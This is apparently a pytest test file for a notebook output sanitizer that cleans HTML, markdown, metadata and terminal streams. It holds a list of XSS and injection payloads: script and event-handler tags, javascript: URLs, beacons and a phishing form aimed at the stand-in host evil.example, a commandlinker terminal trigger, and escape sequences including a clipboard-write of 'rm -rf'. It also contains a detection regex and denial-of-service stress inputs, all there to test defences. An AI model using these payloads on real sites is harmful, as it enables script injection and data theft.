"""What a sandbox shows is fit for a trusted page: no script, no address, no escape gets through."""

from __future__ import annotations

import re
import time

import pandas
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lis_kernel.tools.clean import (
    clean_bundle,
    safe_bundle,
    safe_html,
    safe_markdown,
    safe_metadata,
    safe_stream,
)

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a href=javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#x0a;script:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<iframe src='https://evil.example'></iframe>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<object data=x></object><embed src=x><link rel=stylesheet href=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=//evil.example/>",
    '<img src="https://evil.example/?secret">',
    '<img src="data:text/html;base64,aaaa">',
    "<p style='background:url(https://evil.example)'>x",
    "<p style='background:u\\rl(https://evil.example)'>x",
    "<p style='position:fixed;inset:0;z-index:9999'>x",
    "<style>@import 'https://evil.example';</style>",
    "<style>a{background:image-set('https://evil.example' 1x)}</style>",
    "<style>body{color:red}</style><style>+ div{color:red}</style>",
    "<style>a{color:red}</style</style><script>alert(1)</script>",
    "<div data-commandlinker-command='terminal:create-new' data-commandlinker-args='{}'>x</div>",
    "<div class='jp-Dialog' id='jp-main-dock-panel'>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<textarea><p title='</textarea><script>alert(1)</script>'>",
    "<!--><script>alert(1)</script>-->",
    "<p title='a>b' onclick=alert(1)>x</p><p title=a\"><script>alert(1)</script>\">",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\\\href{javascript:alert(1)}{x}$",
    "$\\mmlToken{mi}[href='javascript:alert(1)']{x} \\bbox[position:fixed]{x}$",
    "<script",
    "<a href='x",
]
HARM = re.compile(
    r"<(?!/?(?:a|b|div|p|span|style|img|table|tr|td|tbody)\b)|\son\w+=|javascript:|evil\.example\W"
    r"|commandlinker|[\"' ]jp-|\bposition|@import|\\href|^\s*[+]",
    re.IGNORECASE,
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_in_html(attack: str) -> None:
    for wrapped in (attack, f"<table><td>{attack}", f"<p title='{attack}'>", f"<b>{attack}</b>"):
        for made in (safe_html(wrapped), safe_markdown(wrapped)):
            # what is left as text or in quotes is no markup
            seen = re.sub(r' title="[^"]*"', "", made)
            tags = "".join(re.findall(r"<[^>]*>", seen))
            assert not HARM.search(tags), made
            assert not re.search(r"\\(?:href|mmlToken|bbox)", made)
            for sheet in re.findall(r"<style>(.*?)</style>", made, re.DOTALL):
                assert not re.search(r"url|image-set|import|\\", sheet)
                assert all(line.startswith("#lis") for line in sheet.split("\n") if line)


@given(st.text(alphabet="<>/abpsd=\"'& ;:-!xl\\\n(){}", max_size=200))
@settings(max_examples=300, deadline=None)
def test_any_text_gives_balanced_allowed_tags(text: str) -> None:
    made = safe_html(text)
    tags = re.findall(r"<(/?)([a-z0-9]+)[^>]*>", made)
    depth = 0
    for close, name in tags:
        if name in ("br", "hr", "img", "col"):
            continue
        depth += -1 if close else 1
        assert depth >= 0
    assert depth == 0


def test_a_data_frame_stays_as_it_is() -> None:
    frame = pandas.DataFrame({"a": [1, 2], "b": ["<x>", "y"]})
    made = safe_html(frame._repr_html_())
    assert '<table border="1" class="dataframe">' in made
    assert ".dataframe thead th { text-align: right }" in made
    assert "&lt;x&gt;" in made
    assert [cell.strip() for cell in re.findall(r"<td>(.*?)</td>", made)] == [
        *("1", "&lt;x&gt;", "2", "y")
    ]


def test_a_style_sheet_reaches_its_own_names_only() -> None:
    sheet = "<style>#T_x_row0 , .red{color: #fff; position: fixed} td{width:10em}</style>"
    made = safe_html(f'{sheet}<p id="T_x_row0" class="red blue">a</p>')
    scope = re.match(r'<div id="(\w+)"', made)[1]
    assert f"#{scope} #{scope}-T_x_row0, #{scope} .{scope}-red {{ color: #fff }}" in made
    assert f"#{scope} td {{ width: 10em }}" in made
    assert f'<p id="{scope}-T_x_row0" class="{scope}-red {scope}-blue">' in made


def test_markdown_with_math_code_and_tables() -> None:
    made = safe_markdown(
        "# T\n**b** $a_i < b_i$ and `$x_1$` costs $5 and $6\n\n|a|\n|-|\n|1|\n\n$$\\frac{a}{b}$$"
    )
    assert "<h1>T</h1>" in made and "<strong>b</strong>" in made and "<td>1</td>" in made
    assert "$a_i &lt; b_i$" in made and "<code>$x_1$</code>" in made
    assert "$$\\frac{a}{b}$$" in made


def test_bundles_keep_what_is_harmless() -> None:
    data = {
        "text/plain": "x\x1b]0;title\x07",
        "image/png": "aGk=\n",
        "text/html": "<b onclick=x>b</b>",
        "text/latex": "$x \\href{a}{b}$",
        "application/json": {"a": [1]},
        "application/javascript": "alert(1)",
        "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
    }
    cleaned = clean_bundle(data)
    assert set(cleaned.data) == set(list(data)[:5])
    assert cleaned.data["text/plain"] == "x"
    assert "onclick" not in cleaned.data["text/html"]
    assert cleaned.dropped == tuple(list(data)[5:])
    assert safe_bundle(data, trust=True) == data
    assert safe_bundle({"application/javascript": "x"}) == {
        "text/plain": "[not shown: application/javascript]"
    }
    assert clean_bundle({"image/png": '"><script>'}).data == {}


def test_svg_is_shown_as_a_picture() -> None:
    made = safe_bundle({"image/svg+xml": "<svg><script>alert(1)</script></svg>"})
    assert list(made) == ["text/html"]
    assert made["text/html"].startswith('<img src="data:image/svg+xml;base64,')


def test_metadata_keeps_sizes() -> None:
    words = {"image/png": {"width": 3, "height": "x", "src": "y"}, "needs_background": "dark"}
    assert safe_metadata(words | {"isolated": True, "text/html": {"isolated": True}}) == {
        "image/png": {"width": 3},
        "needs_background": "dark",
    }


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[31mred\x1b[0m\r\b 50%\t\n", "\x1b[31mred\x1b[0m\r\b 50%\t\n"),
        ("\x1b[2Kx\x1b[K", "\x1b[2Kx\x1b[K"),
        ("a\x1b[2J\x1b[1;1H\x1b[Ab", "ab"),
        ("\x1b]52;c;cm0gLXJm\x07x\x1b]8;;http://e\x1b\\l\x1b]8;;\x1b\\", "xl"),
        ("\x1bP1$r\x1b\\x\x9b31m\x90y\x9c", "x"),
        ("a\x1b[", "a"),
        ("\x1b", ""),
        ("\x1b\x1b[31mx", "\x1b[31mx"),
        ("a\x00\x07\x7fb\x85", "ab"),
    ],
)
def test_streams(text: str, shown: str) -> None:
    assert safe_stream(text) == shown


@given(st.text(alphabet="\x1b[]m3;0\x07P\\\x9bKa", max_size=30))
@settings(max_examples=500, deadline=None)
def test_no_escape_is_left_but_colours(text: str) -> None:
    left = re.sub(r"\x1b\[[0-9;:]*m|\x1b\[[012]?K", "", safe_stream(text))
    assert "\x1b" not in left and "\x9b" not in left


@pytest.mark.parametrize(
    "text",
    [
        "<div>" * 200_000,
        "<div><table><td></div></table></td>" * 20_000,
        "&#" * 300_000,
        "<style>" + "{" * 300_000,
        "<a '" * 300_000,
        "\\[" * 100_000,
        "`" * 300_000,
    ],
    ids=lambda text: text[:12],
)
def test_no_text_takes_long(text: str) -> None:
    started = time.process_time()
    safe_html(text)
    safe_markdown(text)
    safe_stream(text)
    assert time.process_time() - started < 8
